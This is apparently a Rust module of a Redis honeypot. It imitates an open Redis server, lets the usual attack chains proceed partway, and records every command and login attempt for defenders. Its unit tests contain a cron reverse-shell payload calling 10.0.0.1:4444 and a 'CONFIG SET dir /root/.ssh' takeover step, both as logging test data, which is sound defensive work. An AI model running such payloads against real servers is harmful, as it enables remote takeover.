//! A Redis server without a password, as attackers find thousands of them: RESP2 and RESP3
//! (after `HELLO 3`), pipelining and inline commands, `INFO`, `CONFIG`, a small fake
//! keyspace, and the commands of the usual attack chains (`CONFIG SET dir` + `SAVE`,
//! `SLAVEOF` + `MODULE LOAD`, Lua sandbox escapes) answered as a real server would.
//!
//! Configured by `REDIS_VERSION` (else a per-decky pick among the versions the decky's
//! `REDIS_DISTRO` shipped), `REDIS_OS` (INFO's `os:` line, else the distro's) and
//! `NODE_NAME`. Every request is recorded as a `command` event, login attempts (`AUTH`,
//! `HELLO ... AUTH`) also as `auth`, and framing errors as `protocol_error`.
//!
//! The server behaves like one configured with `enable-protected-configs yes` and
//! `enable-module-command yes`, so that attacks proceed far enough to be recorded:
//! `CONFIG SET dir` succeeds, `MODULE LOAD` fails for want of the file. `CONFIG SET` is
//! shared by all connections, as on a real server; keys are per connection.

mod commands;
mod keyspace;
mod persona;
mod resp;
mod sha1;

use std::io;
use std::sync::atomic::{AtomicU32, AtomicU64, Ordering};
use std::sync::{Mutex, MutexGuard, PoisonError};
use std::time::{Instant, SystemTime, UNIX_EPOCH};

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::env::{ConfigError, Env};
use crate::event::{EndReason, Fields};
use crate::listener::{Session, Stream, TcpLimits};

use commands::{Client, MAX_CONFIG_VALUE, Outcome};
use keyspace::Keyspace;
use persona::{InfoView, Persona};
use resp::{ProtocolError, Reply, RequestReader};

/// Most bytes read from the socket at once.
const READ_CHUNK: usize = 16 * 1024;

/// Replies buffered before they are written, so a pipelined flood of requests cannot make
/// the output grow without bound.
const MAX_PENDING_OUTPUT: usize = 64 * 1024;

/// What a `command` event shows of a request: this many arguments, each up to this many
/// bytes; `truncated` says when more was sent.
const MAX_RECORDED_ARGS: usize = 64;
const MAX_RECORDED_ARG: usize = 4096;

/// Redis never closes an idle client by default and people type into `redis-cli`; the
/// interactive limits fit.
pub const LIMITS: TcpLimits = TcpLimits::INTERACTIVE;

/// State every connection shares, as a real server's.
struct ServerState {
    /// Every configuration parameter, in `CONFIG GET *` order, with its current value.
    config: Vec<(&'static str, Vec<u8>)>,
    /// Set by `SLAVEOF host port`.
    master: Option<(String, String)>,
    /// Unix time of the last save.
    last_save: u64,
}

/// The redis emulator of one decky.
pub struct Redis {
    persona: Persona,
    /// Decky whose fake keys every connection starts with.
    decky: String,
    started: Instant,
    state: Mutex<ServerState>,
    connected: AtomicU32,
    connections_served: AtomicU64,
    commands_served: AtomicU64,
    error_replies: AtomicU64,
    next_client_id: AtomicU64,
}

impl Redis {
    pub fn from_env(env: &Env) -> Result<Redis, ConfigError> {
        let persona = Persona::from_env(env)?;
        let config =
            persona.config_defaults().into_iter().map(|(name, value)| (name, value.into_bytes())).collect();
        let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap_or_default().as_secs();
        let last_save = now.saturating_sub(persona.last_save_age);
        let first_client_id = persona.uptime_at_start / 3_600 * 3 + 5;
        Ok(Redis {
            decky: env.decky().to_owned(),
            started: Instant::now(),
            state: Mutex::new(ServerState { config, master: None, last_save }),
            connected: AtomicU32::new(0),
            connections_served: AtomicU64::new(0),
            commands_served: AtomicU64::new(0),
            error_replies: AtomicU64::new(0),
            next_client_id: AtomicU64::new(first_client_id),
            persona,
        })
    }

    /// Serves one client until it quits, breaks the protocol or goes away.
    pub async fn serve(&self, mut stream: Stream, session: &Session) -> io::Result<EndReason> {
        let _connected = Connected::new(&self.connected);
        self.connections_served.fetch_add(1, Ordering::Relaxed);
        let id = self.next_client_id.fetch_add(1 + fastrand::u64(..3), Ordering::Relaxed);
        let mut client = Client::new(self, id, session.peer, session.local, Keyspace::seeded(&self.decky));
        let mut reader = RequestReader::new();
        let mut chunk = vec![0u8; READ_CHUNK];
        let mut output = Vec::new();
        loop {
            let next = self.answer_requests(&mut reader, &mut client, session, &mut output);
            if !output.is_empty() {
                stream.write_all(&output).await?;
                output.clear();
            }
            match next {
                Next::Read => {}
                Next::Flush => continue,
                Next::End => {
                    let _ = stream.shutdown().await;
                    return Ok(EndReason::Closed);
                }
            }
            let room = reader.room().min(READ_CHUNK);
            if room == 0 {
                record_protocol_error(session, ProtocolError::QueryBufferLimit);
                return Ok(EndReason::Closed);
            }
            let n = stream.read(&mut chunk[..room]).await?;
            if n == 0 {
                return Ok(EndReason::Eof);
            }
            reader.feed(&chunk[..n]);
        }
    }

    /// Executes the complete requests received so far, recording each and appending its
    /// reply to `output`.
    fn answer_requests(
        &self,
        reader: &mut RequestReader,
        client: &mut Client<'_>,
        session: &Session,
        output: &mut Vec<u8>,
    ) -> Next {
        while output.len() < MAX_PENDING_OUTPUT {
            let args = match reader.next_request() {
                Ok(Some(args)) => args,
                Ok(None) => return Next::Read,
                Err(error) => {
                    record_protocol_error(session, error);
                    if let Some(reply) = error.reply() {
                        reply.encode(client.protocol, output);
                    }
                    return Next::End;
                }
            };
            self.commands_served.fetch_add(1, Ordering::Relaxed);
            let outcome = client.execute(&args);
            record_outcome(session, &args, &outcome);
            if let Some(reply) = &outcome.reply {
                if matches!(reply, Reply::Error(_)) {
                    self.error_replies.fetch_add(1, Ordering::Relaxed);
                }
                reply.encode(client.protocol, output);
            }
            if outcome.close {
                return Next::End;
            }
        }
        Next::Flush
    }

    fn state(&self) -> MutexGuard<'_, ServerState> {
        self.state.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// INFO as `client` sees it.
    fn info(&self, sections: &[String], client: &mut Client<'_>) -> String {
        let (master, last_save, maxmemory, maxmemory_policy) = {
            let state = self.state();
            let value = |name: &str| {
                state
                    .config
                    .iter()
                    .find(|(n, _)| *n == name)
                    .map(|(_, v)| String::from_utf8_lossy(v).into_owned())
            };
            (
                state.master.clone(),
                state.last_save,
                value("maxmemory").and_then(|v| v.parse().ok()).unwrap_or(0),
                value("maxmemory-policy").unwrap_or_default(),
            )
        };
        let view = InfoView {
            now: SystemTime::now(),
            sensor_uptime: self.started.elapsed().as_secs(),
            port: client.local_port(),
            connected_clients: self.connected.load(Ordering::Relaxed),
            connections_served: self.connections_served.load(Ordering::Relaxed),
            commands_served: self.commands_served.load(Ordering::Relaxed),
            error_replies: self.error_replies.load(Ordering::Relaxed),
            dataset_bytes: client.keyspace_bytes() as u64,
            keyspace: client.keyspace_summary(),
            master,
            last_save,
            maxmemory,
            maxmemory_policy,
        };
        self.persona.info(sections, &view)
    }

    fn last_save(&self) -> u64 {
        self.state().last_save
    }

    fn saved(&self, at: u64) {
        self.state().last_save = at;
    }

    fn master(&self) -> Option<(String, String)> {
        self.state().master.clone()
    }

    fn set_master(&self, master: Option<(String, String)>) {
        self.state().master = master;
    }

    fn config_value(&self, name: &str) -> Option<Vec<u8>> {
        self.state().config.iter().find(|(n, _)| *n == name).map(|(_, v)| v.clone())
    }

    fn config_snapshot(&self) -> Vec<(&'static str, Vec<u8>)> {
        self.state().config.clone()
    }

    /// `CONFIG SET name value` for a known parameter; `modern` words errors as 7.0 does.
    fn set_config(&self, name: &[u8], value: &[u8], modern: bool) -> Result<(), Reply> {
        let name = String::from_utf8_lossy(name).to_ascii_lowercase();
        let mut state = self.state();
        let Some(slot) = state.config.iter_mut().find(|(n, _)| *n == name) else {
            return Err(Reply::error(if modern {
                format!("ERR Unknown option or number of arguments for CONFIG SET - '{name}'")
            } else {
                format!("ERR Unsupported CONFIG parameter: {name}")
            }));
        };
        if value.len() > MAX_CONFIG_VALUE {
            return Err(Reply::error(format!(
                "ERR CONFIG SET failed (possibly related to argument '{name}') - File name too long"
            )));
        }
        slot.1 = value.to_vec();
        Ok(())
    }
}

/// What the connection does after answering what it has received.
enum Next {
    /// Wait for more input.
    Read,
    /// Write the replies so far, then go on answering.
    Flush,
    /// Close the connection.
    End,
}

/// Counts a connection in `connected_clients` while it lasts.
struct Connected<'a>(&'a AtomicU32);

impl<'a> Connected<'a> {
    fn new(count: &'a AtomicU32) -> Self {
        count.fetch_add(1, Ordering::Relaxed);
        Connected(count)
    }
}

impl Drop for Connected<'_> {
    fn drop(&mut self) {
        self.0.fetch_sub(1, Ordering::Relaxed);
    }
}

fn record_protocol_error(session: &Session, error: ProtocolError) {
    session.record("protocol_error", Fields::new().text("error", error.to_string()));
}

/// The `command` event of a request, then its `auth` event if it was a login.
fn record_outcome(session: &Session, args: &[Vec<u8>], outcome: &Outcome) {
    session.record("command", command_fields(args, &outcome.notes));
    if let Some(auth) = &outcome.auth {
        let mut fields = Fields::new();
        if let Some(username) = &auth.username {
            fields = fields.bytes("username", username);
        }
        session.record("auth", fields.bytes("password", &auth.password).flag("success", auth.success));
    }
}

/// `name` (lowercase), `command` (the request as an inline command line, arguments quoted
/// as redis-cli shows them when not plain), `argc`, `truncated` when arguments were cut,
/// then the outcome's notes.
fn command_fields(args: &[Vec<u8>], notes: &[(&'static str, String)]) -> Fields {
    let (line, truncated) = command_line(args);
    let name = args.first().map(|n| resp::repr(n).trim_matches('"').to_ascii_lowercase()).unwrap_or_default();
    let mut fields = Fields::new().text("name", name).text("command", line).num("argc", args.len() as u64);
    if truncated {
        fields = fields.flag("truncated", true);
    }
    notes.iter().fold(fields, |fields, (key, value)| fields.text(key, value.as_str()))
}

/// The request as one inline command line redis would parse back to the same arguments:
/// plain arguments as they are, others quoted ([`resp::repr`]). At most
/// [`MAX_RECORDED_ARGS`] arguments of [`MAX_RECORDED_ARG`] bytes; true if any was cut.
fn command_line(args: &[Vec<u8>]) -> (String, bool) {
    let mut truncated = args.len() > MAX_RECORDED_ARGS;
    let mut words = Vec::with_capacity(args.len().min(MAX_RECORDED_ARGS));
    for arg in args.iter().take(MAX_RECORDED_ARGS) {
        let shown = &arg[..arg.len().min(MAX_RECORDED_ARG)];
        truncated |= shown.len() < arg.len();
        let plain = !shown.is_empty() && shown.iter().all(|b| b.is_ascii_graphic() && !b"\"'\\".contains(b));
        words.push(if plain { String::from_utf8_lossy(shown).into_owned() } else { resp::repr(shown) });
    }
    (words.join(" "), truncated)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn args(items: &[&[u8]]) -> Vec<Vec<u8>> {
        items.iter().map(|a| a.to_vec()).collect()
    }

    #[test]
    fn command_lines_parse_back_to_the_request() {
        let request = args(&[
            b"SET",
            b"x",
            b"\n\n*/1 * * * * bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n\n",
            b"",
            b"\xff'",
        ]);
        let (line, truncated) = command_line(&request);
        assert_eq!(
            line,
            "SET x \"\\n\\n*/1 * * * * bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\\n\\n\" \"\" \"\\xff'\""
        );
        assert!(!truncated);
        assert_eq!(resp::split_inline_args(line.as_bytes()), Some(request));
    }

    #[test]
    fn command_lines_are_bounded() {
        let many: Vec<Vec<u8>> = (0..100).map(|i| i.to_string().into_bytes()).collect();
        let (line, truncated) = command_line(&many);
        assert!(truncated && line.ends_with(" 63"), "{line}");
        let (line, truncated) = command_line(&[vec![b'a'; MAX_RECORDED_ARG * 3]]);
        assert!(truncated && line.len() == MAX_RECORDED_ARG);
    }

    #[test]
    fn command_fields_in_order() {
        let fields = command_fields(&args(&[b"Config", b"SET", b"dir", b"/root/.ssh"]), &[]);
        assert_eq!(serde_json::to_string(&fields.get("command")).unwrap(), "\"Config SET dir /root/.ssh\"");
        assert_eq!(fields.get("name"), Some(&serde_json::json!("config")));
        assert_eq!(fields.get("argc"), Some(&serde_json::json!(4)));
        assert_eq!(fields.get("truncated"), None);
    }
}
